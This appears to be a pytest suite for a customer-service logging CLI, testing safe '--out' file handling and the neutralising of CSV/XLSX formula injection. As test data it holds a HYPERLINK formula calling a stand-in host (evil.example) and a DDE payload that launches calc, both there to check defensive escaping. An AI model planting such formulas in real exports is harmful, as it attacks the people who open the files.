"""``--out`` never clobbers what it must not, and exports/reports can't attack the person who opens them.

Covers issue 9 items 1 and 2: the core ``cstool.files.write_output`` (through
``log export`` and ``log report``) and ``cstool.spreadsheet`` (read back with
openpyxl and the csv module).
"""

from __future__ import annotations

import csv
import io
import os
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pytest

pytest_plugins = ["logbook_helpers"]

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HYPERLINK = '=HYPERLINK("http://evil.example/?x","点我")'
CMD = "=cmd|' /C calc'!A0"
REPORT = ("log", "report", "--week", "--date", "2026-11-12")


@pytest.fixture
def one_entry(cli, log_db):
    result = cli(
        "log", "inquiry", "--buyer", "tb_a", "-q", "包邮吗", "--outcome", "成交", "--at", "2026-11-10 10:00"
    )
    assert result.exit_code == 0, result.stderr


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


# --- --out: what is refused ---------------------------------------------------------------------
@pytest.mark.parametrize("command", [("log", "export", "--format", "csv"), (*REPORT, "--format", "csv")])
def test_out_refuses_a_fifo_and_leaves_it_a_fifo(cli, one_entry, tmp_path, command):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    result = cli(*command, "--out", str(fifo))
    assert result.exit_code == 2
    assert "管道" in result.stderr and str(fifo) in result.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("device", ["/dev/full", "/dev/null"])
def test_out_refuses_a_device(cli, one_entry, device):
    before = os.lstat(device)
    result = cli(*REPORT, "--format", "csv", "--out", device, "--force")
    assert result.exit_code == 2 and "设备文件" in result.stderr
    after = os.lstat(device)
    assert stat.S_ISCHR(after.st_mode) and (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
    assert "内部错误" not in result.stderr


def test_out_refuses_a_socket(cli, one_entry, tmp_path):
    path = tmp_path / "s.sock"
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.bind(str(path))
        result = cli("log", "export", "--out", str(path), "--force")
        assert result.exit_code == 2 and "套接字" in result.stderr
        assert stat.S_ISSOCK(os.lstat(path).st_mode)
    finally:
        sock.close()


def test_out_refuses_a_symlink_even_with_force(cli, one_entry, tmp_path):
    target = tmp_path / "real.csv"
    target.write_text("keep me", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    for extra in ((), ("--force",)):
        result = cli("log", "export", "--out", str(link), *extra)
        assert result.exit_code == 2 and "符号链接" in result.stderr
        assert link.is_symlink() and target.read_text(encoding="utf-8") == "keep me"
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    assert cli("log", "export", "--out", str(dangling)).exit_code == 2
    assert dangling.is_symlink() and not (tmp_path / "nowhere.csv").exists()


def test_out_refuses_a_folder(cli, one_entry, tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    result = cli(*REPORT, "--format", "xlsx", "--out", str(folder), "--force")
    assert result.exit_code == 2 and "文件夹" in result.stderr
    assert folder.is_dir() and list(folder.iterdir()) == []


def test_out_refuses_a_missing_parent_and_names_it(cli, one_entry, tmp_path):
    target = tmp_path / "no" / "such" / "r.csv"
    result = cli("log", "export", "--out", str(target))
    assert result.exit_code == 2
    assert f"文件夹不存在：{tmp_path / 'no' / 'such'}" in result.stderr
    assert not (tmp_path / "no").exists()


def test_out_refuses_an_existing_file_without_force_and_replaces_it_with(cli, one_entry, tmp_path):
    target = tmp_path / "existing.csv"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o640)
    result = cli("log", "export", "--out", str(target))
    assert result.exit_code == 2 and "--force" in result.stderr
    assert target.read_text(encoding="utf-8") == "old"

    inode = target.stat().st_ino
    result = cli("log", "export", "--out", str(target), "--force")
    assert result.exit_code == 0, result.stderr
    assert target.read_bytes().startswith("\ufeff编号,类型".encode())
    assert stat.S_IMODE(target.stat().st_mode) == 0o640  # mode kept
    assert target.stat().st_ino != inode  # replaced in one step, not rewritten in place
    assert leftovers(tmp_path) == []


def test_new_files_follow_the_umask_and_unmasked_exports_are_private(cli, one_entry, tmp_path):
    old = os.umask(0o027)
    try:
        assert cli("log", "export", "--out", str(tmp_path / "a.csv")).exit_code == 0
        assert cli("log", "export", "--unmasked", "--out", str(tmp_path / "b.csv")).exit_code == 0
        assert cli(*REPORT, "--format", "xlsx", "--out", str(tmp_path / "c.xlsx")).exit_code == 0
        (tmp_path / "d.csv").write_text("x", encoding="utf-8")
        (tmp_path / "d.csv").chmod(0o644)
        assert cli("log", "export", "--unmasked", "--force", "--out", str(tmp_path / "d.csv")).exit_code == 0
    finally:
        os.umask(old)
    mode = {
        name: stat.S_IMODE((tmp_path / name).stat().st_mode) for name in ("a.csv", "b.csv", "c.xlsx", "d.csv")
    }
    assert mode == {"a.csv": 0o640, "b.csv": 0o600, "c.xlsx": 0o640, "d.csv": 0o600}


def test_out_dash_is_stdout(cli, one_entry):
    result = cli("log", "export", "--out", "-")
    assert result.exit_code == 0 and result.stdout.startswith("\ufeff编号,类型")
    table = cli(*REPORT, "--out", "-")
    assert table.exit_code == 0 and "询盘转化率" in table.stdout


def test_xlsx_to_stdout_only_when_asked_and_not_a_terminal(cli, one_entry, log_db, tmp_path):
    assert cli("log", "export", "--format", "xlsx").exit_code == 2  # no --out: refused, says to use --out
    proc = subprocess.run(
        [sys.executable, "-m", "cstool", "log", "export", "--format", "xlsx", "--out", "-"],
        capture_output=True,
        env={**os.environ, "CSTOOL_DB": log_db},
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr.decode()
    assert proc.stdout.startswith(b"PK")
    from openpyxl import load_workbook

    assert load_workbook(io.BytesIO(proc.stdout))["记录"]["E2"].value == "tb_a"


def test_a_refused_out_is_checked_before_the_database_is_opened(cli, tmp_path, monkeypatch):
    """Nothing is computed (no database even created) when --out is refused."""
    db = tmp_path / "never.sqlite3"
    existing = tmp_path / "r.csv"
    existing.write_text("old", encoding="utf-8")
    result = cli("log", "--db", str(db), "report", "--format", "csv", "--out", str(existing))
    assert result.exit_code == 2 and not db.exists()


# --- the core writer directly -------------------------------------------------------------------
def test_write_output_is_exclusive_without_force(tmp_path):
    from cstool.errors import BadInput
    from cstool.files import write_output

    target = tmp_path / "r.csv"
    assert write_output(str(target), "one") == target
    with pytest.raises(BadInput):
        write_output(str(target), "two")
    assert target.read_text(encoding="utf-8") == "one"
    write_output(str(target), "two", force=True)
    assert target.read_text(encoding="utf-8") == "two"
    with pytest.raises(BadInput):
        write_output("", "x")


# --- spreadsheets that can't attack -------------------------------------------------------------
HOSTILE = [
    HYPERLINK,
    "=1+1",
    CMD,
    "+8613800001111 加我",
    "@SUM(1)",
    "-2+3",
    "＝1+1",
    "＋86 177",
    "－5",
    "＠所有人",
]


@pytest.fixture
def hostile_log(cli, log_db):
    def add(*args):
        result = cli("log", *args)
        assert result.exit_code == 0, result.stderr
        assert "内部错误" not in result.stderr

    add(
        "inquiry",
        f"--buyer={HYPERLINK}",
        "-q",
        "=1+1",
        "-q",
        "@SUM(1)",
        "-q",
        "＝1+1",
        "--outcome",
        "未成交",
        "--reason",
        "价格",
        "--note",
        CMD,
        "--at",
        "2026-11-10 10:00",
        "--agent",
        "@agent",
    )
    add(
        "inquiry",
        "--buyer=-2+3",
        "-q=-2+3",
        "-q",
        "＋86 177",
        "--outcome",
        "成交",
        "--sku=＠所有人",
        "--at",
        "2026-11-10 11:00",
        "--agent",
        "-小暖",
    )
    add(
        "unpaid",
        "--order",
        "3456789012345678901",
        "--buyer=+8613800001111 加我",
        "--amount",
        "199.00",
        "--reason",
        "运费",
        "--outcome",
        "已关闭",
        "--note=－5",
        "--at",
        "2026-11-11 09:00",
        "--agent",
        "＝阿花",
    )
    add(
        "complaint",
        "--buyer=＠所有人",
        "--what",
        CMD,
        "--severity",
        "重大",
        "--at",
        "2026-11-11 10:00",
        "--agent",
        "=1+1",
    )
    add(
        "promise",
        "--order",
        "3456789012345678902",
        "--buyer",
        "tb_b",
        "--promise=+送收纳袋",
        "--agent",
        "小暖",
        "--at",
        "2026-11-11 10:30",
    )
    return log_db


def assert_csv_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), cell
    return rows


def assert_xlsx_safe(path: Path) -> list[tuple]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append((sheet.title, cell))
    return cells


@pytest.mark.parametrize("unmasked", [False, True])
def test_export_csv_prefixes_every_formula_like_cell(cli, hostile_log, unmasked):
    result = cli("log", "export", *(["--unmasked"] if unmasked else []))
    assert result.exit_code == 0, result.stderr
    rows = assert_csv_safe(result.stdout)
    cells = {cell for row in rows for cell in row}
    assert "'" + HYPERLINK in cells and "'" + CMD in cells and "'=1+1；@SUM(1)；＝1+1" in cells
    assert "'-2+3" in cells and "'＠所有人" in cells and "'－5" in cells and "'＝阿花" in cells
    assert "199.00" in cells


def test_export_csv_reimports_as_typed(cli, hostile_log, tmp_path):
    out = tmp_path / "all.csv"
    assert cli("log", "export", "--unmasked", "--out", str(out)).exit_code == 0
    other = tmp_path / "copy.sqlite3"
    assert cli("log", "--db", str(other), "import", str(out)).exit_code == 0
    import json

    copied = json.loads(cli("log", "list", "--json", "--unmasked", "--db", str(other)).stdout)
    buyers = {e["buyer"] for e in copied}
    assert HYPERLINK in buyers and "-2+3" in buyers
    assert any(e["note"] == CMD for e in copied)


def test_export_xlsx_has_no_formula_and_numeric_amounts(cli, hostile_log, tmp_path):
    out = tmp_path / "all.xlsx"
    result = cli("log", "export", "--format", "xlsx", "--unmasked", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    cells = assert_xlsx_safe(out)
    by_value = {cell.value: cell for _, cell in cells}
    for text in (HYPERLINK, CMD, "-2+3", "＠所有人", "－5", "=1+1；@SUM(1)；＝1+1"):
        assert by_value[text].data_type == "s", text
    from openpyxl import load_workbook

    sheet = load_workbook(out)["记录"]
    headers = [c.value for c in sheet[1]]
    amounts = [row[headers.index("金额")] for row in sheet.iter_rows(min_row=2)]
    filled = [c for c in amounts if c.value is not None]
    assert len(filled) == 1 and filled[0].data_type == "n" and filled[0].value == 199
    assert "¥" in filled[0].number_format
    ids = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(i, int) for i in ids)


def test_report_csv_and_xlsx_are_safe(cli, hostile_log, tmp_path):
    result = cli(*REPORT, "--format", "csv", "--unmasked")
    assert result.exit_code == 0, result.stderr
    rows = assert_csv_safe(result.stdout)
    flat = {cell for row in rows for cell in row}
    assert "'=1+1" in flat and "'" + CMD in flat and "'@agent" in flat and "'=1+1" in flat

    out = tmp_path / "周报.xlsx"
    assert cli(*REPORT, "--format", "xlsx", "--out", str(out)).exit_code == 0
    cells = assert_xlsx_safe(out)
    texts = {cell.value for _, cell in cells if cell.data_type == "s"}
    assert "=1+1" in texts and "@agent" in texts and "-小暖" in texts
    overview = {row[0].value: row[1] for title, row in _rows(out, "概览")}
    lost = overview["流失金额"]
    assert lost.data_type == "n" and lost.value == 199 and "¥" in lost.number_format


def _rows(path: Path, sheet: str):
    from openpyxl import load_workbook

    for row in load_workbook(path)[sheet].iter_rows(min_row=2):
        yield sheet, row


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠1"])
def test_neutralize_every_dangerous_start(text):
    from cstool.spreadsheet import csv_cell, neutralize, unneutralize

    assert neutralize(text) == "'" + text and unneutralize(neutralize(text)) == text
    assert csv_cell(text) == "'" + text
    assert neutralize("tb_小明") == "tb_小明" and unneutralize("'tb") == "'tb"


def test_xlsx_cells_from_the_core_helper(tmp_path):
    from decimal import Decimal

    from openpyxl import Workbook, load_workbook

    from cstool.spreadsheet import Percent, append_row

    book = Workbook()
    append_row(
        book.active, ["\t=1+1", "=A1", Decimal("12.50"), 3, Percent(Decimal("0.5"), "50.0%"), "a\x07b"]
    )
    book.save(tmp_path / "t.xlsx")
    row = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows())
    assert [c.data_type for c in row] == ["s", "s", "n", "n", "n", "s"]
    assert row[1].value == "=A1" and row[2].value == 12.5 and row[5].value == "ab"
